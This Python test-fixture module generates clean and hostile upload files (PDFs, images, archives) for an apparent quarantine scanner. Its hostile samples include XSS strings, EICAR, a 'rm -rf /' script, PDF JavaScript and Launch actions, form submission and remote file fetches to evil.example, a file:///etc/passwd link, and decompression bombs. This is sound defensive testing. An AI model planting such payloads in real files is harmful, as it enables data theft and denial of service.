"""Files as people give them, and as attackers do; all made here, none copied."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

SCRIPT = "<script>alert(1)</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf(mend: Callable[[pikepdf.Pdf], Any] | None = None, *, pages: int = 1, **save: Any) -> bytes:
    """A PDF of empty letter pages, after `mend` was done to it."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        for _page in range(pages):
            made.add_blank_page(page_size=(612, 792))
        if mend:
            mend(made)
        made.save(out, **save)
    return out.getvalue()


def image(kind: str, size: tuple[int, int] = (60, 40), mode: str = "RGB", **save: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, "white" if mode != "P" else 1).save(out, kind, **save)
    return out.getvalue()


def archive(**held: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in held.items():
            made.writestr(name, content)
    return out.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A PNG that says it has that size, with hardly any data in it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    header = struct.pack("!IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = zlib.compress(bytes(10_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def act(action: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{action}"), **more)


def open_with(action: Dictionary) -> bytes:
    return pdf(lambda made: made.Root.__setattr__("OpenAction", action))


def with_annotation(**keys: Any) -> bytes:
    def add(made: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **keys)
        made.pages[0].obj.Annots = Array([made.make_indirect(note)])

    return pdf(add)


def with_attachment(made: pikepdf.Pdf) -> None:
    made.attachments["nota.exe"] = b"MZ not a note"


def with_named_script(made: pikepdf.Pdf) -> None:
    script = act("JavaScript", JS=String("app.alert(1)"))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def with_form(**keys: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda made: made.Root.__setattr__("AcroForm", Dictionary(Fields=Array(), **keys))


def with_bomb(size: int, times: int = 1) -> Callable[[pikepdf.Pdf], None]:
    def add(made: pikepdf.Pdf) -> None:
        data = bytes(size)
        for _level in range(times):
            data = zlib.compress(data, 9)
        filters = Array([Name.FlateDecode] * times) if times > 1 else Name.FlateDecode
        stream = pikepdf.Stream(made, b"")
        stream.write(data, filter=filters)
        made.pages[0].obj.Contents = made.make_indirect(stream)

    return add


def with_huge_image(made: pikepdf.Pdf) -> None:
    keys = {"Type": Name.XObject, "Subtype": Name.Image, "Width": 60_000, "Height": 60_000, "BitsPerComponent": 1}
    picture = pikepdf.Stream(made, b"\0", ColorSpace=Name.DeviceGray, **keys)
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=made.make_indirect(picture)))


def with_deep_nesting(made: pikepdf.Pdf) -> None:
    held = Array()
    for _level in range(60):
        held = Array([held])
    made.Root.Deep = held


def with_many_objects(made: pikepdf.Pdf) -> None:
    made.Root.Many = Array([made.make_indirect(Dictionary(N=number)) for number in range(110_000)])


def good() -> dict[str, bytes]:
    """What must be taken: what offices, scanners and telephones make."""
    exif = Image.Exif()
    exif[0x010E] = "Foto de la fachada"
    jpeg = image("JPEG", (400, 300), exif=exif.tobytes())
    return {
        "a page": pdf(),
        "of an old version": pdf(force_version="1.3"),
        "compressed": pdf(pages=30, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "linearized": pdf(linearize=True),
        "that may not be printed": pdf(encryption=pikepdf.Encryption(owner="dueño", user="")),
        "that opens at its first page": pdf(lambda made: made.open_outline()),
        "with a link": with_annotation(Subtype=Name.Link, A=act("URI", URI=String("https://www.sat.gob.mx/"))),
        "with an empty form": pdf(with_form()),
        "with white after its end": pdf() + b"\r\n\0\0\n",
        "with a large white page": pdf(with_bomb(30_000_000)),
        "a photograph": jpeg,
        "in greys": image("JPEG", mode="L"),
        "progressive": image("JPEG", (900, 700), progressive=True),
        "with another picture behind it": jpeg + jpeg,
        "with a film behind it": jpeg + b"\0\0\0\x18ftypmp42" + bytes(range(256)) * 400,
        "a drawing": image("PNG"),
        "with transparence": image("PNG", mode="RGBA"),
        "with a palette": image("PNG", mode="P"),
    }


def hostile() -> dict[str, tuple[bytes, set[str]]]:
    """What must never come out of quarantine, and the codes that may say why."""
    clean_pdf, jpeg, png = pdf(), image("JPEG"), image("PNG")
    zipped = archive(a=b"x" * 50)
    script, page = SCRIPT.encode(), f"<html><body>{SCRIPT}</body></html>".encode()
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", SCRIPT)
    active, hidden, kind = {"active_content"}, {"hidden_content"}, {"wrong_kind"}
    unreadable, big = {"unreadable"}, {"too_big_inside", "too_complex"}
    return {
        # Not what the portal takes, whatever they call themselves.
        "a page of the web": (page, kind),
        "a drawing with a script": (f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode(), kind),
        "an archive": (zipped, kind),
        "an archive of archives": (archive(a=archive(b=archive(c=b"x"))), kind),
        "a program": (b"MZ\x90\0" + bytes(300), kind),
        "a program of Linux": (b"\x7fELF" + bytes(300), kind),
        "a script": (b"#!/bin/sh\nrm -rf /\n", kind),
        "a moving picture that is a script": (b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", kind),
        "the test virus": (EICAR, kind),
        "the test virus in an archive": (archive(eicar=EICAR), kind),
        "XML with entities without end": (b'<!DOCTYPE a [<!ENTITY b "&c;&c;">]><a>&b;</a>', kind),
        "an old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), kind),
        "a PDF behind a line": (b"\n" + clean_pdf, kind),
        "a PDF behind a page": (page + clean_pdf, kind),
        "nothing but the name of a PDF": (b"%PDF", kind),
        # PDFs with what they should not have.
        "a script by name": (pdf(with_named_script), active),
        "a script on opening": (open_with(act("JavaScript", JS=String("app.alert(1)"))), active),
        "a script in a stream": (
            pdf(lambda made: made.Root.__setattr__("OpenAction", act("JavaScript", JS=pikepdf.Stream(made, b"1")))),
            active,
        ),
        "a script under another name": (
            clean_pdf.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScr#69pt /J#53 (1) >>"),
            active,
        ),
        "a script of a page": (
            pdf(lambda made: made.pages[0].obj.__setattr__("AA", Dictionary(O=act("JavaScript", JS=String("1"))))),
            active,
        ),
        "a script that nothing points to": (
            pdf().replace(b"xref\n", b"99 0 obj << /S /JavaScript /JS (1) >> endobj\nxref\n", 1),
            active,
        ),
        "a program to start": (open_with(act("Launch", F=String("cmd.exe"))), active),
        "a form that sends": (open_with(act("SubmitForm", F=String("https://evil.example/"))), active),
        "data to load": (open_with(act("ImportData", F=String("a.fdf"))), active),
        "a page of the web on opening": (open_with(act("URI", URI=String("https://evil.example/"))), active),
        "another file on opening": (open_with(act("GoToR", F=String(r"\\evil.example\a.pdf"))), active),
        "a link that is a script": (
            with_annotation(Subtype=Name.Link, A=act("URI", URI=String("javascript:alert(1)"))),
            active,
        ),
        "a link to a file": (
            with_annotation(Subtype=Name.Link, A=act("URI", URI=String("file:///etc/passwd"))),
            active,
        ),
        "a film to play": (with_annotation(Subtype=Name.Screen, A=act("Rendition", OP=0)), active),
        "a form of XML": (pdf(with_form(XFA=String("<xdp/>"))), active),
        "a file inside": (pdf(with_attachment), {"attachments"}),
        "a file pinned to a page": (with_annotation(Subtype=Name.FileAttachment), {"attachments"}),
        "a password": (pdf(encryption=pikepdf.Encryption(owner="a", user="b")), {"needs_password"}),
        # Shapes that harm who reads them.
        "no pages": (pdf(pages=0), {"no_pages"}),
        "too many pages": (pdf(pages=201), {"too_many_pages"}),
        "a bomb": (pdf(with_bomb(400_000_000)), big),
        "a bomb in a bomb": (pdf(with_bomb(300_000_000, times=2)), big),
        "an enormous picture": (pdf(with_huge_image), big),
        "deep nesting": (pdf(with_deep_nesting), {"too_complex"}),
        "too many objects": (pdf(with_many_objects), {"too_complex"}),
        "half of a PDF": (pdf(pages=30)[:2000], unreadable),
        "a PDF of noise": (b"%PDF-1.7\n" + bytes(range(256)) * 90 + b"\n%%EOF", unreadable),
        "a PDF whose pages turn in a circle": (
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
            unreadable | {"no_pages", "too_complex"},
        ),
        # Two files in one.
        "a PDF with an archive behind": (clean_pdf + zipped, hidden),
        "a PDF with a page behind": (clean_pdf + page, hidden),
        "a PDF with a page in its head": (clean_pdf.replace(b"\n", b"\n%" + script + b"\n", 1), hidden),
        "a PDF with much behind": (clean_pdf + b"A" * 5000, hidden),
        "a picture with an archive behind": (jpeg + zipped, hidden),
        "a picture with a PDF behind": (jpeg + clean_pdf, hidden),
        "a picture with a program behind": (jpeg + b"\x7fELF" + bytes(50) + b"\xff\xd9", hidden),
        "a picture with a page behind": (jpeg + page, hidden),
        "a picture with much behind": (jpeg + b"A" * 100_000, hidden),
        "a picture with a script in its comment": (image("JPEG", comment=SCRIPT.encode()), hidden),
        "a drawing with a script in its text": (image("PNG", pnginfo=text), hidden),
        "a drawing with an archive behind": (png + zipped, hidden),
        # Pictures that are not.
        "a head of JPEG and nothing else": (b"\xff\xd8\xff\xe0" + bytes(100), unreadable),
        "half of a photograph": (image("JPEG", (900, 700), quality=95)[:900], unreadable),
        "half of a drawing": (png[:50], unreadable),
        "a drawing with a false sum": (png.replace(b"IDAT", b"IDAX"), unreadable),
        "a drawing of 50,000 by 50,000": (png_of(50_000, 50_000), big),
        "a drawing of no width": (png_of(0, 10), unreadable),
        "a head of PNG and nothing else": (b"\x89PNG\r\n\x1a\n", unreadable),
    }
